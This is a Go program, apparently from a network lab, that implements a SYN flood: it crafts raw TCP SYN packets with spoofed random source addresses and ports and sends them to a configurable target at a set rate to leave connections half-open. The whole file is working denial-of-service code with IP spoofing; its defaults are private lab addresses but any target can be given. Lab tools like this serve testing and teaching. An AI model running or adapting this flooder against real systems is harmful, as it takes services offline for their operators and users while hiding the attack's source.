// Command synflood is the lab's SYN flood: it sends bare TCP SYNs from a raw
// socket (IP_HDRINCL) with a source address drawn at random from -sources
// (a CIDR) and a random source port, at -rate per second, bounded by -count
// and -duration. It never answers a SYN-ACK: the lab routes the spoofed
// range back to the sender's namespace, whose kernel (forwarding off)
// drops them, so the target keeps each half-open connection in SYN_RECV.
// Needs CAP_NET_RAW.
package main

import (
	"encoding/binary"
	"flag"
	"log"
	"math/rand/v2"
	"net/netip"
	"os"
	"syscall"
	"time"
)

func main() {
	target := flag.String("target", "10.200.1.10:8080", "address:port to flood")
	sources := flag.String("sources", "10.200.128.0/20", "spoofed source range (CIDR)")
	rate := flag.Float64("rate", 1000, "SYNs per second")
	count := flag.Int("count", 5000, "SYNs in all")
	dur := flag.Duration("duration", 5*time.Second, "stop after this long")
	logPath := flag.String("log", "", "log file (default stderr)")
	flag.Parse()
	if *logPath != "" {
		f, err := os.OpenFile(*logPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			log.Fatal(err)
		}
		log.SetOutput(f)
	}
	log.SetFlags(log.LstdFlags | log.Lmicroseconds)
	dst, err := netip.ParseAddrPort(*target)
	if err != nil || !dst.Addr().Is4() {
		log.Fatalf("-target %q: want an IPv4 address:port", *target)
	}
	pfx, err := netip.ParsePrefix(*sources)
	if err != nil || !pfx.Addr().Is4() || pfx.Bits() > 30 {
		log.Fatalf("-sources %q: want an IPv4 CIDR of at least 4 addresses", *sources)
	}
	pfx = pfx.Masked()
	if *rate <= 0 || *count <= 0 {
		log.Fatal("-rate and -count must be positive")
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		log.Fatalf("raw socket: %v", err)
	}
	defer syscall.Close(fd)
	to := &syscall.SockaddrInet4{Addr: dst.Addr().As4()}

	base := binary.BigEndian.Uint32(pfx.Addr().AsSlice())
	size := uint32(1) << (32 - pfx.Bits())
	log.Printf("synflood: %d SYNs to %s at %.0f/s from random addresses of %s (%d), for at most %v",
		*count, dst, *rate, pfx, size, *dur)
	seen := map[uint32]bool{}
	start := time.Now()
	end := start.Add(*dur)
	gap := time.Duration(float64(time.Second) / *rate)
	next := start
	sent, failed := 0, 0
	lastLog := start
	pkt := make([]byte, 44)
	for sent+failed < *count && time.Now().Before(end) {
		// Skip the network and broadcast addresses of the range.
		src := base + 1 + rand.Uint32N(size-2)
		seen[src] = true
		buildSYN(pkt, src, dst, uint16(1024+rand.IntN(64511)), rand.Uint32())
		if err := syscall.Sendto(fd, pkt, 0, to); err != nil {
			failed++
			if failed <= 5 {
				log.Printf("sendto: %v", err)
			}
		} else {
			sent++
		}
		if time.Since(lastLog) >= time.Second {
			log.Printf("progress: sent=%d errors=%d sources=%d", sent, failed, len(seen))
			lastLog = time.Now()
		}
		next = next.Add(gap)
		if d := time.Until(next); d > 0 {
			time.Sleep(d)
		}
	}
	log.Printf("done: sent=%d errors=%d sources=%d in %v", sent, failed, len(seen), time.Since(start).Round(time.Millisecond))
}

// buildSYN writes an IPv4 header and a TCP SYN with an MSS option into
// pkt (44 bytes). The kernel fills the IP checksum and total length of an
// IP_HDRINCL packet, not the TCP checksum.
func buildSYN(pkt []byte, src uint32, dst netip.AddrPort, sport uint16, seq uint32) {
	clear(pkt)
	ip := pkt[:20]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(len(pkt)))
	binary.BigEndian.PutUint16(ip[4:], uint16(rand.IntN(65536)))
	binary.BigEndian.PutUint16(ip[6:], 0x4000) // DF
	ip[8] = 64
	ip[9] = syscall.IPPROTO_TCP
	binary.BigEndian.PutUint32(ip[12:], src)
	d4 := dst.Addr().As4()
	copy(ip[16:], d4[:])
	tcp := pkt[20:]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dst.Port())
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[12] = 6 << 4 // data offset: 24 bytes
	tcp[13] = 0x02   // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	tcp[20], tcp[21] = 2, 4 // MSS 1460
	binary.BigEndian.PutUint16(tcp[22:], 1460)
	binary.BigEndian.PutUint16(tcp[16:], tcpChecksum(ip[12:16], ip[16:20], tcp))
}

// tcpChecksum is the Internet checksum of the TCP segment and its IPv4
// pseudo-header.
func tcpChecksum(src, dst, seg []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src)
	add(dst)
	sum += syscall.IPPROTO_TCP + uint32(len(seg))
	add(seg)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
